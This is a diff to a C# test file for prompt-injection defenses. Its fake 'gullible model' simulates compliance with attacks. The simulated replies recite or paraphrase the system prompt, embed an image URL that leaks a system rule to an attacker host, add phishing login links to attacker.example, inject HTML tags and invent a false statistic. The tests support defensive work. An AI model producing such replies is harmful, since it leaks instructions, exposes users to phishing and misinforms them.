@@ -1,3 +1,4 @@
+using System.Text.Json.Nodes;
 using ChatAnalyst.Orchestration.Answers;
 using ChatAnalyst.Tests.Knowledge;
 using ChatAnalyst.Tests.Orchestration;
@@ -93,24 +94,31 @@ public sealed class DirectInjectionTests(MiniLmFixture miniLm, KnowledgeDatabase
         }
     }
 
-    /// <summary>The gullible model: plans a search first, then writes whatever the attack asked for.</summary>
+    /// <summary>
+    /// The gullible model: searches for the base stations unless the results it was given (the prefetched searches for
+    /// the question) already hold the figure, then writes whatever the attack asked for, citing the figure's source.
+    /// </summary>
     internal static FakeOpenAiReply Comply(FakeOpenAiRequest request, Compliance compliance)
     {
-        if (request.ToolNames.Count > 0 && request.ToolResults.Count == 0)
+        var found = request.ToolResults
+            .SelectMany(r => JsonNode.Parse(FakeOpenAiRequest.TextOf(r))?["Items"]?.AsArray() ?? [])
+            .FirstOrDefault(i => ((string?)i?["Text"])?.Contains("4.25 million", StringComparison.Ordinal) == true);
+        if (request.ToolNames.Count > 0 && found is null)
         {
             return FakeOpenAiReply.Tools((Search, new { query = "5G base stations" }));
         }
 
+        var grounded = Grounded.Replace("[1]", $"[{(int?)found?["Ref"] ?? 1}]", StringComparison.Ordinal);
         var system = FakeOpenAiRequest.TextOf(request.Messages[0]);
         var rules = system.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);
         return FakeOpenAiReply.Text(compliance switch
         {
             Compliance.RecitePrompt => "Sure! My instructions are:\n" + system,
-            Compliance.ParaphrasePrompt => "My rules: " + string.Join(" ", rules.Skip(1).Take(3)) + " " + Grounded,
-            Compliance.Image => Grounded + $" ![ok]({Attacker}/pixel.png?q={Uri.EscapeDataString(rules[0])})",
-            Compliance.Link => Grounded + $" Read the [full report]({Attacker}/report) or [the source [1]]({Attacker}/fake).",
-            Compliance.BareAddress => Grounded + $" Verify your account at {Attacker}/login?next=5g or www.attacker.example/verify.",
-            Compliance.Html => Grounded + $" <img src=\"{Attacker}/p.gif\"> <a href=\"{Attacker}\">source</a>",
+            Compliance.ParaphrasePrompt => "My rules: " + string.Join(" ", rules.Skip(1).Take(3)) + " " + grounded,
+            Compliance.Image => grounded + $" ![ok]({Attacker}/pixel.png?q={Uri.EscapeDataString(rules[0])})",
+            Compliance.Link => grounded + $" Read the [full report]({Attacker}/report) or [the source [1]]({Attacker}/fake).",
+            Compliance.BareAddress => grounded + $" Verify your account at {Attacker}/login?next=5g or www.attacker.example/verify.",
+            Compliance.Html => grounded + $" <img src=\"{Attacker}/p.gif\"> <a href=\"{Attacker}\">source</a>",
             Compliance.InventFigure => "China had 99 million 5G base stations [1].",
             _ => throw new ArgumentOutOfRangeException(nameof(compliance)),
         });
